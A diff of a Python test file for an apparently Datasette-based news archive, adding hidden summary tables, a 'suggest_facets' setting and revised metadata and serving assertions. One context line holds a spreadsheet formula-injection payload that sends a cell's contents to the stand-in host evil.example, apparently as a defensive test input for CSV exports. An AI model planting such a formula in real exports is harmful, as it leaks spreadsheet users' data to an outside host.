@@ -40,7 +40,10 @@ XSS_URL = "https://www.maghress.com/fr/lesechos/9001"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 QUERIES = config.queries()
 HOOKS = {"prepare_connection", "get_metadata", "canned_queries", "register_routes", "menu_links",
-         "extra_template_vars", "asgi_wrapper", "permission_allowed", "handle_exception"}
+         "extra_template_vars", "asgi_wrapper", "permission_allowed", "handle_exception", "filters_from_request"}
+SUMMARIES = {"summary_table_rows", "summary_articles_by_paper", "summary_articles_by_day", "summary_articles_by_month",
+             "summary_headlines_by_day", "summary_headline_days", "summary_headline_sightings", "summary_stories",
+             "summary_groups", "summary_failures"}
 
 
 def visible_text(html):
@@ -157,7 +160,8 @@ def test_serve_passes_the_settings_and_nothing_else(db):
     assert all(t[0] == "--setting" and len(t) == 3 for t in triples)
     assert {t[1]: t[2] for t in triples} == {
         "sql_time_limit_ms": "3000", "max_returned_rows": "1000", "default_allow_sql": "off",
-        "facet_time_limit_ms": "500", "default_facet_size": "20", "allow_csv_stream": "on", "max_csv_mb": "100"}
+        "facet_time_limit_ms": "500", "suggest_facets": "off", "default_facet_size": "20", "allow_csv_stream": "on",
+        "max_csv_mb": "100"}
     assert serve_args(db, "0.0.0.0", 80, immutable=True)[:3] == ["serve", "-i", str(db)]
     default = serve_args(db, "h", 1)
     assert default[default.index("default_allow_sql") + 1] == "off"  # arbitrary SQL off unless asked for
@@ -343,8 +347,9 @@ def test_metadata_describes_the_archive_from_its_site(db):
     assert {"articles", "headlines", "headline_sightings", "article_versions", "captures", "crawls", "urls",
             "article_groups", "stories"} <= set(tables)
     assert all(t["description"] for t in tables.values())
-    assert (tables["articles"]["fts_table"], tables["headlines"]["fts_table"], tables["headlines"]["fts_pk"]) == (
-        "search_fts", "search_fts", "search_rowid")
+    assert SUMMARIES <= {name for name, t in tables.items() if t.get("hidden")}
+    # Table search is the plugin's (crawler.publish.tables), through search_fts: not Datasette's fts_table.
+    assert not any("fts_table" in t for t in tables.values())
 
 
 def test_metadata_of_several_sites_names_them_all():
@@ -564,9 +569,9 @@ def test_internal_tables_are_not_served(db):
     """Not listed, no table page (403), with arbitrary SQL on or off; SQL on them:
     tests/test_serve_safety.py."""
     tables = {t["name"]: t["hidden"] for t in rows(db, "/archive.json")["tables"]}
-    assert set(tables) == {"articles", "headlines", "headline_sightings", "article_versions", "crawls",
-                           "article_groups", "stories"}
-    assert not any(tables.values())
+    assert {name for name, hidden in tables.items() if not hidden} == {
+        "articles", "headlines", "headline_sightings", "article_versions", "crawls", "article_groups", "stories"}
+    assert {name for name, hidden in tables.items() if hidden} == SUMMARIES  # listed as hidden, readable
     listed = visible_text(fetch(db, "/").text).split("Databases", 1)[1]
     assert "captures" not in listed and "urls" not in listed
     for allow_sql in (False, True):
